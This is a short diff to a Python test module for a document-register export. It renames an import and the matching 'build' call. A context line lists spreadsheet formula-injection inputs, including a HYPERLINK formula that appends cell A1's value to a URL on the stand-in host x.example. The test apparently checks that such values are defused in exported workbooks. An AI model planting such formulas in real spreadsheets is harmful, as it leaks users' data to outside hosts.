@@ -11,7 +11,7 @@ from openpyxl import load_workbook  # type: ignore[import-untyped]
 
 from tests.documents.conftest import DocWorld
 from tests.documents.test_registers import TODAY, YEAR_2012, register
-from vanphong.documents import registers
+from vanphong.documents import register_files
 from vanphong.documents.models import IncomingDocument
 from vanphong.documents.registers import Kind
 
@@ -19,7 +19,7 @@ FORMULAS = ('=HYPERLINK("http://x.example/?"&A1,"Bấm")', "=1+1", "+1", "-2", "
 
 
 def _cells(world: DocWorld, kind: Kind = Kind.INCOMING) -> list[Any]:
-    content = registers.build(
+    content = register_files.build(
         world.chau_thanh_clerk,
         kind,
         unit=world.chau_thanh_office,
